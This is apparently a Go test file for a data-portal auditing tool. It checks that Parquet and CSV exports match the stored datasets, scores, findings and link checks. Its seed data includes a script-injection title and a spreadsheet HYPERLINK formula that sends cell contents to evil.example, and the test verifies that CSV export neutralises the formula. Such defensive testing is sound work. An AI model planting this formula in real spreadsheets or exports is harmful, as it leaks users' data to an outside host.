package export

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"
	"github.com/vigie-audit/vigie"
	"github.com/vigie-audit/vigie/internal/storetest"
	"github.com/vigie-audit/vigie/quality"
	"github.com/vigie-audit/vigie/store"
)

const seedPortal = "https://portal.example/recherche"

var seedNow = time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)

// Portal text that tries markup, a spreadsheet formula, a bidirectional
// override, CSV quoting and a line break: Parquet must keep it unchanged.
const (
	evilTitle   = "<script>alert(\"x\")</script>\u202e&amp; \"a,b\"\nline 2"
	evilFormula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
)

// seedDataset is dataset i: four organizations, a mix of licences, formats
// and ages, 1–3 resources; every seventh dataset's resources are never
// checked, so its availability is unknown.
func seedDataset(i int) vigie.Dataset {
	orgs := []string{"ville-a", "ministere-b", "societe-c", "organisme-d"}
	licences := []string{"cc-by", "CC-BY-4.0", "notspecified", "cc-by-nc", ""}
	formats := []string{"CSV", "PDF", "JSON", "XLS", "SHP"}
	freqs := []string{"annual", "monthly", "", "irregular", "weekly"}
	mod := seedNow.AddDate(0, 0, -(i*37)%900)
	title := fmt.Sprintf("Jeu de données %d", i)
	switch i {
	case 0:
		title = evilTitle
	case 1:
		title = evilFormula
	}
	d := vigie.Dataset{
		ID: fmt.Sprintf("00000000-0000-0000-0000-%012d", i), Name: fmt.Sprintf("jeu-%d", i), Title: title,
		Notes: "Description " + fmt.Sprint(i), Organization: orgs[i%4], OrganizationTitle: "Organisation " + orgs[i%4],
		LicenseID: licences[i%len(licences)], CKANState: "active", Type: "dataset",
		MetadataCreated: mod.AddDate(-1, 0, 0), MetadataModified: mod,
		Extras: map[string]string{"update_frequency": freqs[i%len(freqs)]},
	}
	for j := 0; j < 1+i%3; j++ {
		d.Resources = append(d.Resources, vigie.Resource{
			ID: fmt.Sprintf("r-%d-%d", i, j), Position: j, Name: fmt.Sprintf("Ressource %d", j),
			Format: formats[(i+j)%len(formats)], URL: fmt.Sprintf("https://files.example/%d/%d.dat", i, j),
		})
	}
	return d
}

func seedLink(r vigie.Resource, i, j int) vigie.LinkResult {
	l := vigie.LinkResult{URL: r.URL, Class: vigie.LinkOK, Status: 200, ContentLength: -1, CheckedAt: seedNow.Add(-time.Hour)}
	switch (i + j) % 5 {
	case 0:
		first := seedNow.AddDate(0, 0, -10)
		l.Class, l.Status, l.Reason, l.Failures, l.FirstFailure = vigie.LinkBroken, 404, "404 Not Found", 3, &first
	case 3:
		l.Class, l.Status, l.Reason, l.ContentLength = vigie.LinkUnsure, 403, "403 Forbidden", 1234
	}
	return l
}

// seedStore builds a store (SQLite, or PostgreSQL when the tests run there) holding n datasets of one portal with `runs`
// complete harvest, link and score runs, the link and score runs a day
// apart each; it returns the database and the number of checked resources.
func seedStore(tb testing.TB, n, runs int) (*store.DB, int) {
	tb.Helper()
	ctx := context.Background()
	db := storetest.NewDB(tb)
	tick := 0
	db.Now = func() time.Time { tick++; return seedNow.Add(time.Duration(tick) * time.Minute) }
	p, err := db.EnsurePortal(ctx, seedPortal)
	if err != nil {
		tb.Fatal(err)
	}
	prof := quality.MustProfile("donneesquebec")
	checked := 0
	for run := range runs {
		db.FixClock(seedNow.AddDate(0, run, 0))
		hr, err := db.BeginHarvestRun(ctx, p.ID, store.HarvestOptions{Mode: store.ModeFull})
		if err != nil {
			tb.Fatal(err)
		}
		lr, err := db.BeginLinkRun(ctx, p.ID)
		if err != nil {
			tb.Fatal(err)
		}
		links := map[string]vigie.LinkResult{}
		var ds []vigie.Dataset
		var lrs []vigie.LinkResult
		flush := func() {
			if _, err := db.SaveDatasets(ctx, p.ID, hr, ds); err != nil {
				tb.Fatal(err)
			}
			if err := db.SaveLinkResults(ctx, lr, lrs); err != nil {
				tb.Fatal(err)
			}
			ds, lrs = ds[:0], lrs[:0]
		}
		all := make([]vigie.Dataset, 0, n)
		checked = 0
		for i := range n {
			d := seedDataset(i)
			if i%7 != 6 {
				for j, r := range d.Resources {
					l := seedLink(r, i, j)
					links[r.URL] = l
					lrs = append(lrs, l)
					checked++
				}
			}
			ds = append(ds, d)
			all = append(all, d)
			if len(ds) == 2000 {
				flush()
			}
		}
		flush()
		if err := db.FinishLinkRun(ctx, lr, store.RunComplete, store.LinkCounts{URLs: len(links)}, ""); err != nil {
			tb.Fatal(err)
		}
		if err := db.FinishHarvestRun(ctx, hr, store.HarvestResult{Status: store.RunComplete, ListingComplete: true, Expected: n, Fetched: n}); err != nil {
			tb.Fatal(err)
		}
		sr, err := db.BeginScoreRun(ctx, p.ID, "donneesquebec")
		if err != nil {
			tb.Fatal(err)
		}
		as := make([]vigie.Assessment, 0, 2000)
		for i := range all {
			as = append(as, quality.Score(&all[i], links, prof, db.AsOf()))
			if len(as) == 2000 || i == len(all)-1 {
				if err := db.SaveAssessments(ctx, sr, as); err != nil {
					tb.Fatal(err)
				}
				as = as[:0]
			}
		}
		if err := db.FinishScoreRun(ctx, sr, store.RunComplete, n, ""); err != nil {
			tb.Fatal(err)
		}
	}
	return db, checked
}

func readParquet[T any](t *testing.T, path string) []T {
	t.Helper()
	rows, err := parquet.ReadFile[T](path)
	if err != nil {
		t.Fatalf("read %s: %v", path, err)
	}
	return rows
}

func fptr(p *float64) string {
	if p == nil {
		return "null"
	}
	return fmt.Sprint(*p)
}

// Every table read back from Parquet equals what the store holds: row
// counts, each dataset's five scores per run (unknown ones NULL), findings,
// link states, and portal text byte for byte.
func TestExportParquetMatchesStore(t *testing.T) {
	ctx := context.Background()
	const n = 300
	db, checked := seedStore(t, n, 2)
	dir := t.TempDir()
	files, err := Export(ctx, db, dir, Options{RowGroup: 100}) // several row groups per table
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]int64{}
	for _, f := range files {
		got[f.Table] = f.Rows
	}

	portals := readParquet[PortalRow](t, filepath.Join(dir, "portals.parquet"))
	if len(portals) != 1 || portals[0].URL != seedPortal || got["portals"] != 1 {
		t.Fatalf("portals: %+v", portals)
	}
	pid := portals[0].PortalID

	runs := readParquet[RunRow](t, filepath.Join(dir, "runs.parquet"))
	kinds := map[string]int{}
	var scoreRuns []RunRow
	for _, r := range runs {
		kinds[r.Kind]++
		if r.Kind == "score" {
			scoreRuns = append(scoreRuns, r)
			if r.Datasets == nil || *r.Datasets != n || r.AsOf == nil || r.FinishedAt == nil || r.Status != store.RunComplete {
				t.Errorf("score run %+v", r)
			}
		}
		if r.Kind == "link" && (r.Datasets != nil || r.URLs == nil) {
			t.Errorf("link run %+v: datasets must be NULL, urls set", r)
		}
	}
	if kinds["harvest"] != 2 || kinds["link"] != 2 || kinds["score"] != 2 || int64(len(runs)) != got["runs"] {
		t.Fatalf("runs by kind: %v", kinds)
	}
	if !scoreRuns[1].AsOf.Equal(seedNow.AddDate(0, 1, 0)) {
		t.Errorf("second score run as_of %v", scoreRuns[1].AsOf)
	}

	datasets := readParquet[DatasetRow](t, filepath.Join(dir, "datasets.parquet"))
	if len(datasets) != n {
		t.Fatalf("%d datasets, want %d", len(datasets), n)
	}
	byID := map[string]DatasetRow{}
	for _, d := range datasets {
		byID[d.DatasetID] = d
	}
	d0, d1 := byID[seedDataset(0).ID], byID[seedDataset(1).ID]
	if d0.Title != evilTitle || d1.Title != evilFormula {
		t.Errorf("hostile titles changed: %q, %q", d0.Title, d1.Title)
	}
	want5 := seedDataset(5)
	if d5 := byID[want5.ID]; d5.MetadataModified == nil || !d5.MetadataModified.Equal(want5.MetadataModified) || d5.NumResources != int64(len(want5.Resources)) || d5.State != vigie.StateActive {
		t.Errorf("dataset 5: %+v", d5)
	}

	scores := readParquet[ScoreRow](t, filepath.Join(dir, "scores.parquet"))
	if len(scores) != 2*n*5 || int64(len(scores)) != got["scores"] {
		t.Fatalf("%d score rows, want %d", len(scores), 2*n*5)
	}
	nulls := 0
	for _, sr := range scoreRuns {
		as, err := db.Assessments(ctx, sr.RunID)
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range scores {
			if s.ScoreRunID != sr.RunID {
				continue
			}
			if s.PortalID != pid || !s.AsOf.Equal(*sr.AsOf) {
				t.Fatalf("score row %+v", s)
			}
			a, ok := as[s.DatasetID]
			if !ok {
				t.Fatalf("score for unknown dataset %s", s.DatasetID)
			}
			want := map[string]*float64{"overall": a.Scores.Overall, "completeness": a.Scores.Completeness,
				"freshness": a.Scores.Freshness, "openness": a.Scores.Openness, "availability": a.Scores.Availability}[s.Dimension]
			if fptr(want) != fptr(s.Score) {
				t.Errorf("run %d dataset %s %s: parquet %s, store %s", sr.RunID, s.DatasetID, s.Dimension, fptr(s.Score), fptr(want))
			}
			if s.Score == nil {
				nulls++
			}
		}
	}
	if nulls == 0 {
		t.Error("no unknown score exported: the unchecked datasets' availability must be NULL")
	}

	findings := readParquet[FindingRow](t, filepath.Join(dir, "findings.parquet"))
	wantFindings := 0
	for _, sr := range scoreRuns {
		for i := range n {
			fs, err := db.Findings(ctx, sr.RunID, seedDataset(i).ID)
			if err != nil {
				t.Fatal(err)
			}
			wantFindings += len(fs)
			if i == 3 && len(fs) > 0 {
				var first *FindingRow
				for k := range findings {
					if findings[k].ScoreRunID == sr.RunID && findings[k].DatasetID == seedDataset(3).ID {
						first = &findings[k]
						break
					}
				}
				if first == nil || first.Rule != fs[0].Rule || first.MessageEN != fs[0].Message.EN || first.MessageFR != fs[0].Message.FR || first.Points != fs[0].Points {
					t.Errorf("dataset 3 first finding: parquet %+v, store %+v", first, fs[0])
				}
			}
		}
	}
	if len(findings) != wantFindings || wantFindings == 0 {
		t.Errorf("%d findings, store holds %d", len(findings), wantFindings)
	}

	links := readParquet[LinkRow](t, filepath.Join(dir, "links.parquet"))
	if len(links) != checked {
		t.Fatalf("%d link rows, want the %d checked resources", len(links), checked)
	}
	for _, l := range links {
		var i, j int
		fmt.Sscanf(l.ResourceID, "r-%d-%d", &i, &j)
		want := seedLink(seedDataset(i).Resources[j], i, j)
		if l.URL != want.URL || vigie.LinkClass(l.Class) != want.Class || l.Status != int64(want.Status) || l.Failures != int64(want.Failures) || l.DatasetID != seedDataset(i).ID {
			t.Fatalf("link %+v, want %+v", l, want)
		}
		if (want.ContentLength < 0) != (l.ContentLength == nil) {
			t.Errorf("link %s content_length %v, want %d (unknown is NULL)", l.URL, l.ContentLength, want.ContentLength)
		}
		if (want.FirstFailure == nil) != (l.FirstFailure == nil) {
			t.Errorf("link %s first_failure %v", l.URL, l.FirstFailure)
		}
	}
	if ents, _ := os.ReadDir(dir); len(ents) != len(Tables) {
		t.Errorf("%d entries in the export folder, want %d files", len(ents), len(Tables))
	}
}

// CSV holds the same rows, NULL as an empty field, and neutralises
// formula-like portal text.
func TestExportCSV(t *testing.T) {
	ctx := context.Background()
	db, _ := seedStore(t, 40, 1)
	dir := t.TempDir()
	files, err := Export(ctx, db, dir, Options{Format: FormatCSV})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		fh, err := os.Open(f.Path)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(fh).ReadAll()
		fh.Close()
		if err != nil {
			t.Fatalf("%s: %v", f.Path, err)
		}
		if int64(len(recs)-1) != f.Rows {
			t.Errorf("%s: %d records, want header + %d", f.Table, len(recs), f.Rows)
		}
		switch f.Table {
		case "scores":
			if recs[0][6] != "score" || f.Rows != 40*5 {
				t.Errorf("scores header %v, %d rows", recs[0], f.Rows)
			}
			empty := 0
			for _, r := range recs[1:] {
				if r[6] == "" {
					empty++
				}
			}
			if empty == 0 {
				t.Error("no unknown score left empty in scores.csv")
			}
		case "datasets":
			for _, r := range recs[1:] {
				if r[2] == seedDataset(1).ID && r[4] != "'"+evilFormula {
					t.Errorf("formula title not neutralised: %q", r[4])
				}
			}
		}
	}
}

// --portal and --since narrow the export.
func TestExportFilter(t *testing.T) {
	ctx := context.Background()
	db, _ := seedStore(t, 20, 2)
	other, err := db.EnsurePortal(ctx, "https://other.example")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	files, err := Export(ctx, db, dir, Options{Filter: store.ExportFilter{PortalIDs: []int64{other.ID}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if want := map[string]int64{"portals": 1}[f.Table]; f.Rows != want {
			t.Errorf("other portal only: %s has %d rows, want %d", f.Table, f.Rows, want)
		}
	}
	files, err = Export(ctx, db, dir, Options{Filter: store.ExportFilter{Since: seedNow.AddDate(0, 0, 15)}})
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string]int64{}
	for _, f := range files {
		rows[f.Table] = f.Rows
	}
	// The runs start at the wall clock (seedNow plus minutes), so none is
	// after seedNow+15 days: runs, scores and findings are empty, current
	// state is whole.
	if rows["runs"] != 0 || rows["scores"] != 0 || rows["findings"] != 0 || rows["datasets"] != 20 || rows["portals"] != 2 {
		t.Errorf("--since after every run: %v", rows)
	}
	files, err = Export(ctx, db, dir, Options{Filter: store.ExportFilter{Since: seedNow}})
	if err != nil {
		t.Fatal(err)
	}
	if files[1].Rows != 6 || files[3].Rows != 2*20*5 {
		t.Errorf("--since before every run: %+v", files)
	}
}

// failingSource fails the scores stream after some rows, as a disk error or
// a cancelled context would.
type failingSource struct {
	*store.DB
	after int
}

var errBoom = errors.New("boom")

func (f failingSource) EachScoreExport(ctx context.Context, flt store.ExportFilter, fn func(*store.ExportScore) error) error {
	n := 0
	return f.DB.EachScoreExport(ctx, flt, func(s *store.ExportScore) error {
		if n++; n > f.after {
			return errBoom
		}
		return fn(s)
	})
}

// An export interrupted in the middle of a table leaves the previous file
// in place (or none), never a partial one, and no temporary file.
func TestExportInterruptedLeavesNoPartialFile(t *testing.T) {
	ctx := context.Background()
	db, _ := seedStore(t, 200, 1)

	// Into an empty folder: the tables before scores are written, scores and
	// the rest are not.
	dir := t.TempDir()
	_, err := Export(ctx, failingSource{db, 150}, dir, Options{RowGroup: 50})
	if !errors.Is(err, errBoom) || !strings.Contains(err.Error(), "scores") {
		t.Fatalf("err = %v", err)
	}
	ents, _ := os.ReadDir(dir)
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	if strings.Join(names, " ") != "datasets.parquet portals.parquet runs.parquet" {
		t.Errorf("folder holds %v", names)
	}

	// Over a complete export: scores.parquet stays the previous, whole file.
	if _, err := Export(ctx, db, dir, Options{}); err != nil {
		t.Fatal(err)
	}
	before, err := os.ReadFile(filepath.Join(dir, "scores.parquet"))
	if err != nil {
		t.Fatal(err)
	}
	cctx, cancel := context.WithCancel(ctx)
	calls := 0
	_, err = Export(cctx, cancelSource{db, func() {
		if calls++; calls == 100 {
			cancel()
		}
	}}, dir, Options{RowGroup: 10})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled export: err = %v", err)
	}
	after, _ := os.ReadFile(filepath.Join(dir, "scores.parquet"))
	if string(before) != string(after) {
		t.Error("an interrupted export changed scores.parquet")
	}
	if rows := readParquet[ScoreRow](t, filepath.Join(dir, "scores.parquet")); len(rows) != 200*5 {
		t.Errorf("scores.parquet holds %d rows after the interruption, want 1000", len(rows))
	}
	if tmp, _ := filepath.Glob(filepath.Join(dir, ".*")); len(tmp) != 0 {
		t.Errorf("temporary files left: %v", tmp)
	}
}

// cancelSource calls tick on each score row (the test cancels the context
// from it).
type cancelSource struct {
	*store.DB
	tick func()
}

func (c cancelSource) EachScoreExport(ctx context.Context, flt store.ExportFilter, fn func(*store.ExportScore) error) error {
	return c.DB.EachScoreExport(ctx, flt, func(s *store.ExportScore) error {
		c.tick()
		if err := ctx.Err(); err != nil {
			return err
		}
		return fn(s)
	})
}
